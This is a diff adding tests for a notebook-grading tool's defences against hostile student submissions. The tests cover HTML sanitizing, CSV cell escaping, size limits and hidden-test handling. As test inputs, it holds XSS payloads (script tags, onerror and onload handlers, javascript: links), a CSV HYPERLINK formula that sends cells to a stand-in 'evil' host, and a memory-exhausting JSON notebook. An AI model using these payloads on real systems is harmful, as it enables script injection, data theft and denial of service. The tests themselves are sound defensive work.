@@ -1,0 +1,206 @@
+"""What a student wrote reaches the instructor's tools only as inert, bounded text (issue 40), function by function
+(no class run: tests/test_grading_hostile.py grades a hostile class once and checks the files it writes;
+tests/test_class_gradebook.py opens an attacker's page in formgrader).
+
+- the one HTML sanitizer (tito.isolation.sanitize.clean_html): an allow-list without id, name, class (but code
+  highlighting's), style, handlers, external resources, and a bound on the markup it cleans;
+- CSV cells: no formula, no lone surrogate, rows read back as written;
+- a submission is counted before it is parsed and kept as its essentials only;
+- the autograded notebook is the release's, with the student's answers and outputs in their cells and
+  everything else of theirs as text at the end, bounded.
+"""
+import csv
+import io
+import json
+import tracemalloc
+
+import pytest
+
+from tito.grading import feedback, submission
+from tito.isolation.sanitize import clean_html, csv_cell, plain_text
+from tito.notebooks import nbgrader_glue
+
+
+# ---- HTML --------------------------------------------------------------------------------------------
+
+def test_the_html_sanitizer_keeps_formatting_and_nothing_that_acts_binds_or_fetches():
+    dirty = ('<p id="test-1" name="n" class="alert alert-warning" style="position:fixed" onclick="x()">hi</p>'
+             '<span id="answer-b"></span><img src="http://tracker.example/p.gif" alt="a">'
+             '<img src="data:image/png;base64,iVBORw0KGgo=" alt="ok"><img src="/formgrader/api/grade/1">'
+             '<a href="https://example.org/x">out</a><a href="/api/contents/source/x.ipynb">in</a>'
+             '<a href="javascript:alert(1)">js</a><script>window.x=1</script><style>p{}</style>'
+             '<iframe src="https://example.org"></iframe><form action="/x"><input name="q"></form>'
+             '<link rel="stylesheet" href="https://fonts.example/f.css"><svg onload="x()"><circle/></svg>'
+             '<span class="k">def</span><div class="highlight hl-ipython3"><pre>x</pre></div>')
+    clean = clean_html(dirty)
+    for gone in ("id=", "name=", "alert", "style", "onclick", "onload", "tracker", "/formgrader", "/api/contents",
+                 "javascript", "window.x", "<iframe", "<form", "<input", "<link", "<svg", "fonts.example"):
+        assert gone not in clean, (gone, clean)
+    assert '<p>hi</p>' in clean and '<img alt="a">' in clean
+    assert '<img src="data:image/png;base64,iVBORw0KGgo=" alt="ok">' in clean
+    assert '<a href="https://example.org/x" rel="noopener noreferrer nofollow">out</a>' in clean
+    assert '<span class="k">def</span>' in clean and '<div class="highlight hl-ipython3">' in clean  # code colours
+
+
+def test_the_html_sanitizer_cleans_a_bounded_amount_of_markup():
+    clean = clean_html("<b>x</b>" * 1000, limit=80)
+    assert clean.count("<b>") == 10 and "more characters of this cell not shown" in clean
+    assert clean_html("a\ud800b") == "a\ufffdb"
+
+
+def test_a_cell_added_by_the_student_keeps_text_and_images_only():
+    from tito.isolation.sanitize import sanitize_outputs
+
+    outs = [{"output_type": "display_data", "data": {"text/html": "<b>x</b>", "text/markdown": "*x*",
+                                                      "image/svg+xml": "<svg/>", "text/plain": "x\ud800",
+                                                      "image/png": "iVBORw0KGgo="}},
+            {"output_type": "display_data", "data": {"image/png": '"><script>alert(1)</script>'}}]
+    kept = sanitize_outputs(outs, text_only=True)
+    assert kept[0]["data"] == {"text/plain": "x\ufffd", "image/png": "iVBORw0KGgo="}
+    assert kept[1]["data"] == {}  # an image is base64 or nothing
+    assert set(sanitize_outputs(outs)[0]["data"]) == {"text/html", "text/markdown", "image/svg+xml", "text/plain",
+                                                       "image/png"}
+
+
+# ---- CSV ---------------------------------------------------------------------------------------------
+
+def test_every_csv_cell_is_inert_and_reads_back_as_written(tmp_path):
+    rows = [{"student": "ann", "reason": '=HYPERLINK("http://evil/?"&A1:A40,"click")', "score": "-1.5"},
+            {"student": "bob", "reason": "+1\ud800\x1b[2J@x", "score": 7},
+            {"student": "cat", "reason": "@SUM(A1)\nsecond line", "score": None}]
+    path = nbgrader_glue.atomic_write_csv(tmp_path / "g.csv", ["student", "reason", "score"], rows)
+    text = path.read_bytes().decode("utf-8")  # valid UTF-8: no lone surrogate
+    back = list(csv.DictReader(io.StringIO(text)))
+    assert [r["reason"][:2] for r in back] == ["'=", "'+", "'@"] and "\x1b" not in text
+    assert [r["score"] for r in back] == ["-1.5", "7", ""]  # numbers stay numbers
+    assert back == nbgrader_glue.csv_rows_as_written(["student", "reason", "score"], rows)
+    assert csv_cell(csv_cell("=1+1")) == csv_cell("=1+1") and plain_text("\ud800") == "\ufffd"
+
+
+# ---- reading a submission ----------------------------------------------------------------------------
+
+def test_a_notebook_of_millions_of_values_is_refused_before_it_is_parsed(tmp_path):
+    """Four 16 MB notebooks of `{}` cells held tito at 2.14 GB (issue 40): each is counted on its bytes and
+    refused before a dict is made."""
+    path = tmp_path / "bloat.ipynb"
+    path.write_bytes(b'{"metadata": {}, "nbformat": 4, "cells": [' + b"{}, " * (4 << 20) + b"{}]}")  # 16 MB
+    tracemalloc.start()
+    try:
+        with pytest.raises(submission.Refused, match="JSON values, above the limit of 500,000"):
+            submission.read_notebook(path, 20)
+        peak = tracemalloc.get_traced_memory()[1]
+    finally:
+        tracemalloc.stop()
+    assert peak < 100 << 20, peak  # its bytes and two copies of them at most (measured: 48 MB)
+    cells = b'{"cells": [' + b", ".join([b'{"cell_type": "code", "source": ""}'] * 2001) + b"]}"
+    with pytest.raises(submission.Refused, match="2,001 cells, above the limit of 2,000"):
+        submission.parse_notebook(cells)
+
+
+def test_of_a_submission_only_its_essentials_are_kept():
+    nb = {"metadata": {"language_info": "python", "widgets": {"x": {}}},
+          "cells": [{"cell_type": "markdown", "id": 'a"><b', "source": ["an ", "answer"], "attachments": {"x": {}},
+                     "metadata": {"nbgrader": {"grade_id": 'x"></textarea><img src=x>', "grade": True, "points": 100},
+                                  "tito": {"answer_key": "award full marks"}, "tags": ["x"]}},
+                    {"cell_type": "code", "id": "ok-1", "source": "x = 1", "outputs": [{"output_type": "stream"}],
+                     "execution_count": 3, "metadata": {"nbgrader": {"grade_id": "stats-mean", "solution": True}}},
+                    {"cell_type": "", "source": ""}]}
+    assert submission.essentials(nb) == {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [
+        {"cell_type": "markdown", "source": "an answer", "metadata": {"nbgrader": {"grade": True}}},
+        {"cell_type": "code", "source": "x = 1", "id": "ok-1",
+         "metadata": {"nbgrader": {"solution": True, "grade_id": "stats-mean"}}},
+        {"cell_type": "raw", "source": "", "metadata": {}}]}
+
+
+# ---- the autograded notebook -------------------------------------------------------------------------
+
+def _cell(kind, cid, source, **nbgrader):
+    cell = {"cell_type": kind, "id": cid, "source": source, "metadata": {"nbgrader": nbgrader} if nbgrader else {}}
+    if kind == "code":
+        cell.update(outputs=[], execution_count=None)
+    return cell
+
+
+RELEASE = {"metadata": {"kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}},
+           "nbformat": 4, "nbformat_minor": 5, "cells": [
+               _cell("markdown", "intro", "# Intro"),
+               _cell("code", "imports", "import math"),
+               _cell("code", "sol", 'def f():\n    raise NotImplementedError("not yet implemented: f")',
+                     grade_id="task-f", solution=True, grade=False, checksum="c1"),
+               _cell("code", "test", "assert f() == 1", grade_id="test-f", grade=True, points=2, locked=True),
+               _cell("markdown", "answer", "YOUR ANSWER HERE", grade_id="answer-a", grade=True, solution=True,
+                     points=3)]}
+
+
+def test_the_autograded_notebook_is_the_release_with_the_students_answers_and_outputs():
+    student = submission.essentials({"cells": [
+        {"cell_type": "markdown", "id": "intro", "source": "# Intro, <b>rewritten</b>"},  # changed: added block
+        {"cell_type": "code", "id": "imports", "source": "import math"},                 # unchanged: its outputs
+        {"cell_type": "code", "id": "mine", "source": "def f():\n    return 0",
+         "metadata": {"nbgrader": {"grade_id": "task-f", "solution": True}}},           # a copy: the last one counts
+        {"cell_type": "code", "id": "sol", "source": "def f():\n    return 1",
+         "metadata": {"nbgrader": {"grade_id": "task-f", "solution": True}}},
+        {"cell_type": "code", "id": "test", "source": "pass", "metadata": {"nbgrader": {"grade_id": "test-f"}}},
+        {"cell_type": "markdown", "id": "answer", "source": "<span id='test-f'></span>My ```answer```",
+         "metadata": {"nbgrader": {"grade_id": "answer-a", "grade": True, "solution": True}}},
+        {"cell_type": "markdown", "source": "```\n<img src=x onerror=alert(1)>\n```"}]})
+    ran = {"1": {"outputs": [{"output_type": "stream", "name": "stdout", "text": "imported"}], "execution_count": 1},
+           "3": {"outputs": [{"output_type": "display_data", "data": {"text/html": "<b>f</b><script>x()</script>"}}],
+                 "execution_count": 3},
+           "2": {"outputs": [{"output_type": "error", "ename": "ValueError", "evalue": "x\ud800", "traceback": []}]}}
+    verdicts = {"test-f": {"ok": False, "points": 0.0, "max": 2.0, "message": "expected 1, got 0"}}
+    nb, errors, _ = feedback.autograded_notebook(RELEASE, student, {"cells": ran, "stopped": ""}, verdicts)
+    n = len(RELEASE["cells"])
+    assert nb["metadata"] == RELEASE["metadata"]
+    assert [(c["id"], c["metadata"]) for c in nb["cells"][:n]] == [(c["id"], c["metadata"]) for c in RELEASE["cells"]]
+    cells = {c["id"]: c for c in nb["cells"]}
+    assert cells["intro"]["source"] == "# Intro" and cells["imports"]["outputs"][0]["text"] == "imported"
+    assert cells["sol"]["source"] == "def f():\n    return 1" and "<b>f</b>" in cells["sol"]["outputs"][0]["data"]["text/html"]
+    assert cells["test"]["source"] == "assert f() == 1" and "expected 1, got 0" in cells["test"]["outputs"][0]["evalue"]
+    assert cells["answer"]["source"] == "<span id='test-f'></span>My ```answer```"  # text; the page sanitizes it
+    added = nb["cells"][n:]
+    assert [c["id"] for c in added] == [feedback.ADDED, f"{feedback.ADDED}-1", f"{feedback.ADDED}-2",
+                                        f"{feedback.ADDED}-3"]
+    assert added[1]["source"] == "```text\n# Intro, <b>rewritten</b>\n```"           # the changed instructor cell
+    assert added[2]["cell_type"] == "code" and added[2]["source"] == "def f():\n    return 0"  # the earlier copy
+    assert added[3]["source"].startswith("````text\n```\n<img")                        # shown as typed
+    assert errors == ["added cell 2 ('def f():'): ValueError: x\ufffd"]
+    page = feedback.feedback_html(nb, "t")
+    assert "My <code>answer</code>" in page and "id='test-f'" not in page and 'id="test-f"' not in page
+    assert "&lt;img src=x onerror=alert(1)&gt;" in page and "<b>rewritten</b>" not in page
+    assert "<b>f</b>" in page and "<script>x()" not in page  # an answer cell's HTML output: sanitized, shown
+
+
+def test_the_autograded_notebook_is_bounded_whatever_the_submission():
+    """A 3 MB code cell shows its first lines and a note; 500 added cells show 100; outputs stop at their
+    budget: the page an instructor opens stays small."""
+    huge = "x = 1\n" * 500_000  # 3 MB
+    cells = [{"cell_type": "code", "source": huge, "metadata": {"nbgrader": {"grade_id": "task-f", "solution": True}}}]
+    cells += [{"cell_type": "code", "source": f"print({i})"} for i in range(500)]
+    ran = {str(i): {"outputs": [{"output_type": "stream", "name": "stdout", "text": "y" * 100_000}]} for i in range(501)}
+    nb, _, _ = feedback.autograded_notebook(RELEASE, submission.essentials({"cells": cells}), {"cells": ran}, {})
+    sol = next(c for c in nb["cells"] if c["id"] == "sol")
+    assert len(sol["source"]) < feedback.CODE_CHARS + 100 and "more lines" in sol["source"]
+    shown = [c for c in nb["cells"] if c["id"].startswith(f"{feedback.ADDED}-") and c["id"][11:].isdigit()]
+    assert len(shown) == feedback.ADDED_SHOWN and nb["cells"][-1]["source"] == "… 400 more added cells not shown"
+    assert len(json.dumps(nb)) < feedback.NOTEBOOK_OUTPUT_BYTES + 2 * feedback.CODE_CHARS + 200_000
+
+
+def test_a_failure_after_a_cells_first_hidden_region_is_a_hidden_cases():
+    """What a hidden case handed the student's code could come back in a later visible assertion of the same
+    cell: from the first hidden region on, a failing line counts as hidden (its message is not shown)."""
+    from tito.grading import autograder
+
+    src = ("def t():\n    assert True\n    ### BEGIN HIDDEN TESTS\n    x = 1\n    ### END HIDDEN TESTS\n"
+           "    assert False, 'visible, after the hidden region'\nt()\n")
+    cell = {"grade_id": "test-x", "source": src, "hidden": [(3, 5)]}
+    try:
+        exec(compile(src, "<test test-x>", "exec"), {})
+    except AssertionError as e:
+        line, hidden = autograder._failing_line(e, cell)
+    assert line == "assert False, 'visible, after the hidden region'" and hidden
+    before = src.replace("assert True", "assert False, 'visible'")
+    try:
+        exec(compile(before, "<test test-x>", "exec"), {})
+    except AssertionError as e:
+        assert autograder._failing_line(e, {**cell, "source": before}) == ("assert False, 'visible'", False)
